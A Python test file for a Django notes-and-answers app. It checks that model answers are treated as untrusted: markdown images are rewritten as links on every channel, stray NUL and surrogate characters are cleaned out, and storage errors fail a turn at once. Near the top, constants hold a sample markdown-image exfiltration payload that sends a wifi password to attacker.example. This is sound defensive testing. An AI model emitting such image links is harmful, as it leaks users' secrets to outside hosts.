"""Model output is untrusted (SPEC §8), through the real `openai` client against the fake
provider: answer markdown over REST, MCP and stored conversation turns carries links and
never images; NUL characters and lone surrogates are cleaned out of answers and resolved
questions, and the turn completes; an error while the answer is stored fails the turn at
once with its cause, never after the 5-minute lease."""

from __future__ import annotations

import json
import uuid
from datetime import timedelta

import pytest
from django.db import connections
from django.test import Client
from django.utils import timezone

from ask.models import Turn
from ask.rules import GENERATE
from ask.services import ask
from grove.kernel import jobs
from grove.kernel.tenancy import tenant
from grove.models import Job
from tests import factories
from tests.api.conftest import Caller, new_key
from tests.ask.helpers import chat_requests, generate, start, submit, turn_of
from tests.ask.test_ask import answer, index_all
from tests.notebooks.test_rendering_images import images_in

LEAK = "https://attacker.example/c?d=wifi+hunter2"
PAYLOAD = (f"It is on the fridge. ![status]({LEAK}) ![more][r]\n\n"
           f"[r]: {LEAK}&ref=1")
LABELS = ["[Image: status — attacker.example](<https://attacker.example/c?d=wifi+hunter2>)",
          "[Image: more — attacker.example](<https://attacker.example/c?d=wifi+hunter2&ref=1>)"]


def _no_images(text: str) -> None:
    assert images_in(text) == 0, text
    assert all(label in text for label in LABELS), text
    assert "It is on the fridge." in text


@pytest.mark.django_db
@pytest.mark.usefixtures("_clean_vector_index")
def test_answer_json_carries_links_and_never_images_on_every_channel(owner, provider):
    shared = factories.notebook(owner, "Shared")
    note = factories.note(owner, "The wifi password is on the fridge.", notebook_id=shared.id)
    index_all(owner)
    key, agent = new_key(owner, all_notebooks=False, personal=False, notebooks=[shared.id])
    cite = f"note:{note.id}@1"
    provider.chat_replies = [answer("answered", (PAYLOAD, [cite]))] * 4
    assert images_in(PAYLOAD) == 2  # what the model sent is an exfiltration

    direct = ask(actor=owner, query="Where is the wifi password?")
    _no_images(direct.blocks[0].text)

    rest = Caller(Client(), key).post("/ask", {"query": "Where is the wifi password?"})
    assert rest.status_code == 200
    _no_images(rest.json()["data"]["blocks"][0]["text"])

    mcp = Client().post("/mcp", data=json.dumps({
        "jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": "ask", "arguments": {"query": "Where is the wifi password?"}}}),
        content_type="application/json", headers={"Authorization": f"Bearer {key}"})
    result = mcp.json()["result"]
    assert result["isError"] is False
    _no_images(result["structuredContent"]["blocks"][0]["text"])
    assert "![" not in json.dumps(result)  # nor in the tool's text content

    api = Caller(Client(), key)
    conversation_id, turn_id = str(uuid.uuid4()), str(uuid.uuid4())
    assert api.post("/conversations", {"id": conversation_id}).status_code == 201
    assert api.post(f"/conversations/{conversation_id}/turns",
                    {"id": turn_id, "query": "Where is the wifi password?",
                     "expectedVersion": 0, "format": "markdown"}).status_code == 202
    generate(agent)
    turn = api.get(f"/conversations/{conversation_id}/turns/{turn_id}").json()["data"]
    assert turn["status"] == "completed"
    _no_images(turn["result"]["blocks"][0]["text"])


def _raw(status: str, text: str, cite: str) -> str:
    """The answer JSON with the NUL as a raw character, not escaped."""
    return json.dumps({"status": status, "blocks": [{"text": text, "citations": [cite]}]},
                      ensure_ascii=False).replace("\\u0000", "\x00")


@pytest.mark.django_db
@pytest.mark.usefixtures("_clean_vector_index")
@pytest.mark.parametrize("raw_nul", [False, True])
def test_a_nul_and_a_lone_surrogate_in_the_answer_are_cleaned_and_the_turn_completes(
        owner, provider, raw_nul):
    note = factories.note(owner, "The staging database is rebuilt every Sunday night.")
    index_all(owner)
    cite = f"note:{note.id}@1"
    if raw_nul:
        reply = _raw("answered", "Sun\x00days\ud800, at night.", cite)
        assert "\x00" in reply
    else:  # JSON escapes, as a model (or a proxy in front of one) sends them
        reply = answer("answered", ("Sun\x00days\ud800, at night.", [cite]))
        assert "\\u0000" in reply and "\\ud800" in reply
    provider.chat_replies = [reply]
    conversation = start(owner)
    turn = submit(owner, conversation, "When is staging rebuilt?")
    assert generate(owner) == 1
    done = turn_of(owner, conversation, turn)
    assert done.status == "completed", done.error
    assert [b.text for b in done.result.blocks] == ["Sundays\ufffd, at night."]
    assert len(chat_requests(provider)) == 1
    with tenant(owner):
        job = Job.objects.get(kind=GENERATE,
                              target_id=Turn.objects.get(client_id=turn.id).id)
    assert job.status == Job.Status.DONE and job.attempts == 1


@pytest.mark.django_db
@pytest.mark.usefixtures("_clean_vector_index")
def test_a_nul_in_the_resolved_follow_up_is_cleaned_too(owner, provider):
    note = factories.note(owner, "The staging database is rebuilt every Sunday night.")
    index_all(owner)
    cite = f"note:{note.id}@1"
    conversation = start(owner)
    provider.chat_replies = [answer("answered", ("On Sundays.", [cite]))]
    submit(owner, conversation, "When is the staging database rebuilt?")
    generate(owner)
    provider.chat_replies = [json.dumps({"question": "At what\x00 time is staging rebuilt?"}),
                             answer("answered", ("At night.", [cite]))]
    follow_up = submit(owner, conversation, "At what time?")
    generate(owner)
    done = turn_of(owner, conversation, follow_up)
    assert done.status == "completed", done.error
    assert done.result.resolved_question == "At what time is staging rebuilt?"


@pytest.fixture
def refusing_turns(committed):
    """The database refuses to store a turn whose result holds a marker — a stand-in
    for any storage failure completion cannot foresee (added by the schema owner, as a
    real constraint PostgreSQL enforces; dropped again afterwards)."""
    with connections["owner"].cursor() as cursor:
        cursor.execute("ALTER TABLE ask_turn ADD CONSTRAINT ask_turn_refuses_marker "
                       "CHECK (position('refuse-me' in coalesce(result::text, '')) = 0) "
                       "NOT VALID")
    try:
        yield "refuse-me"
    finally:
        connections.close_all()
        with connections["owner"].cursor() as cursor:
            cursor.execute("ALTER TABLE ask_turn DROP CONSTRAINT ask_turn_refuses_marker")


def test_an_error_storing_the_answer_fails_the_turn_at_once_with_its_cause(
        refusing_turns, vacuumed_vectors, owner, provider):
    note = factories.note(owner, "The boiler is serviced every October.")
    index_all(owner)
    conversation = start(owner)
    provider.chat_replies = [answer("answered", (f"October ({refusing_turns}).",
                                                 [f"note:{note.id}@1"]))] * 3
    turn = submit(owner, conversation, "When is the boiler serviced?")
    assert jobs.run_batch(account_id=owner.account_id, kind=GENERATE) == 0
    failed = turn_of(owner, conversation, turn)
    assert failed.status == "failed" and failed.error.code == "generation_failed"
    assert "ask_turn_refuses_marker" in failed.error.message  # the real cause, shown
    with tenant(owner):
        job = Job.objects.get(kind=GENERATE,
                              target_id=Turn.objects.get(client_id=turn.id).id)
    assert job.status == Job.Status.FAILED and job.attempts == 1
    assert job.last_error.startswith("IntegrityError:") and job.lease_token is None
    # Nothing is left for the lease to run out on: no second model call, ever.
    assert jobs.recover(now=timezone.now() + timedelta(minutes=6))["expired"] == 0
    assert jobs.run_batch(account_id=owner.account_id, kind=GENERATE) == 0
    assert len(chat_requests(provider)) == 1


@pytest.mark.django_db
def test_pages_allow_images_from_grove_itself_only():
    policy = Client().get("/login/")["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    assert directives["img-src"] == "'self' data:"
